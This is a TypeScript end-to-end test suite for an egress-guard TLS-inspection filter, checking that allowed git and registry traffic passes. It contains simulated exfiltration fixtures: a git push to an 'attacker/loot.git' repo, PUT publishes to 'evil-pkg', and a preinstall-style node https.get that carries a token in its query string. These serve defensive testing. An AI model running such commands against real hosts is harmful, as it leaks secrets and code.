/**
 * TLS inspection end to end (issue 13): egress-guard in the runner namespace with method and path rules, a fake
 * GitHub (git smart HTTP on https://allowed.test/git/) and npm registry on the internet side. Real git, curl,
 * npm and node clients, redirected transparently (no proxy variables) and through HTTPS_PROXY. The internet's
 * log is the judge of what arrived. Needs root (namespaces, iptables).
 */
import assert from 'node:assert/strict';
import { chownSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { stateCaPaths } from '../../certs/ca-store.js';
import { World } from './harness.js';

let world: World;

before(async () => {
  world = await World.create();
});

after(async () => {
  await world?.close();
});

const ALLOWED = 'allowed.test/git/my-org/** GET,HEAD registry.test allowed.test:80';
const DENIED = 'POST allowed.test/git/my-org/app.git/forbidden';

for (const mode of ['block', 'audit'] as const) {
  describe(`${mode} mode`, () => {
    let bundle: string;
    const gitEnv = () => ({
      GIT_SSL_CAINFO: bundle,
      GIT_TERMINAL_PROMPT: '0',
      GIT_AUTHOR_NAME: 'job',
      GIT_AUTHOR_EMAIL: 'job@x.test',
      GIT_COMMITTER_NAME: 'job',
      GIT_COMMITTER_EMAIL: 'job@x.test',
    });

    before(async () => {
      const stateDir = path.join(world.dir, `state-${mode}`);
      mkdirSync(stateDir, { recursive: true });
      chownSync(stateDir, world.sidecarIds.uid, world.sidecarIds.gid);
      await world.startEgressGuard(mode, [], {
        env: { EGRESS_ALLOWED_ENDPOINTS: ALLOWED, EGRESS_DENIED_ENDPOINTS: DENIED, EGRESS_STATE_DIR: stateDir, EGRESS_UPSTREAM_CA: world.caFile },
      });
      // What a job is given: egress-guard's CA (generated at start, the policy has path rules) beside the others.
      bundle = path.join(world.dir, `bundle-${mode}.pem`);
      writeFileSync(bundle, readFileSync(stateCaPaths(stateDir).cert, 'utf8') + readFileSync(world.caFile, 'utf8'));
    });
    after(async () => {
      await world.stopEgressGuard();
    });

    const arrived = (fragment: string) => world.internetLog().filter((e) => e.type === 'http' && String(e.url).includes(fragment));

    test('git clone and push to the allowed repository work, inspected and decided per request', async () => {
      const dir = path.join(world.dir, `clone-${mode}`);
      const clone = await world.job('git', ['clone', '-q', 'https://allowed.test/git/my-org/app.git', dir], { env: gitEnv() });
      assert.equal(clone.code, 0, clone.stderr);
      writeFileSync(path.join(dir, 'change.txt'), `${mode}\n`);
      await world.job('git', ['-C', dir, 'add', 'change.txt'], { env: gitEnv() });
      await world.job('git', ['-C', dir, 'commit', '-q', '-m', `change in ${mode}`], { env: gitEnv() });
      const push = await world.job('git', ['-C', dir, 'push', '-q', 'origin', 'HEAD:main'], { env: gitEnv() });
      assert.equal(push.code, 0, push.stderr);
      assert.ok(arrived('/git/my-org/app.git/git-receive-pack').length > 0, 'the pack reached the server');
      const event = await world.decision((e) => e.kind === 'transparent' && e.path === '/git/my-org/app.git/git-receive-pack');
      assert.equal(event?.decision, 'allowed');
      assert.equal(event?.method, 'POST');
    });

    test("git push to the attacker's repository: refused with 403 (block), no pack reaches it", async () => {
      const dir = path.join(world.dir, `clone-${mode}`);
      const push = await world.job('git', ['-C', dir, 'push', '-q', 'https://allowed.test/git/attacker/loot.git', 'HEAD:main'], { env: gitEnv() });
      const event = await world.decision((e) => e.kind === 'transparent' && typeof e.path === 'string' && e.path.startsWith('/git/attacker/loot.git'));
      assert.equal(event?.reason, 'path-not-allowed');
      if (mode === 'block') {
        assert.notEqual(push.code, 0);
        assert.match(push.stderr, /403/);
        assert.equal(arrived('/git/attacker/').length, 0, 'nothing reached the attacker repository');
      } else {
        assert.equal(push.code, 0, push.stderr);
        assert.equal(event?.decision, 'would-block');
      }
    });

    test('npm-style: GET passes, a PUT (publish) is refused and never arrives; curl through HTTPS_PROXY too', async () => {
      // curl trusting egress-guard's CA; the status it got.
      const status = (args: string[]) => world.job('curl', ['-sS', '--max-time', '10', '--cacert', bundle, '-o', '/dev/null', '-w', '%{http_code}', ...args]);
      const get = await status(['https://registry.test/left-pad-lite']);
      assert.equal(get.stdout, '200', get.stderr);
      const put = await status(['-X', 'PUT', '-d', '{}', 'https://registry.test/evil-pkg']);
      const viaProxy = await status(['-x', 'http://127.0.0.1:3128', '-X', 'PUT', '-d', '{}', 'https://registry.test/evil-proxied']);
      assert.equal((await world.decision((e) => e.path === '/evil-pkg'))?.reason, 'method-not-allowed');
      assert.equal((await world.decision((e) => e.kind === 'connect' && e.path === '/evil-proxied'))?.reason, 'method-not-allowed');
      if (mode === 'block') {
        assert.equal(put.stdout, '403');
        assert.equal(viaProxy.stdout, '403');
        assert.equal(arrived('/evil-').length, 0);
      }
    });

    test('a preinstall-style node https.get, redirected transparently, is decided by path', async () => {
      const script = `require('https').get('https://allowed.test/git/attacker/loot.git/info/refs?token=s3cret', (r) => { console.log(r.statusCode); r.resume(); }).on('error', (e) => console.log(e.code));`;
      const result = await world.job(process.execPath, ['-e', script], { env: { NODE_EXTRA_CA_CERTS: bundle } });
      assert.equal(result.stdout.trim(), mode === 'block' ? '403' : '200');
      const event = await world.decision((e) => e.path === '/git/attacker/loot.git/info/refs');
      assert.equal(event?.reason, 'path-not-allowed');
      assert.ok(!JSON.stringify(world.events()).includes('s3cret'), 'the query string is not logged');
    });

    test('a client that does not trust the CA fails closed, and the event says so', async () => {
      const result = await world.job('curl', ['-sS', '--max-time', '10', '--cacert', world.caFile, 'https://allowed.test/git/my-org/app.git/info/refs']);
      assert.notEqual(result.code, 0);
      await new Promise((r) => setTimeout(r, 300));
      assert.ok(world.events().some((e) => e.event === 'close' && e.error === 'client-rejected-certificate'));
    });
  });
}
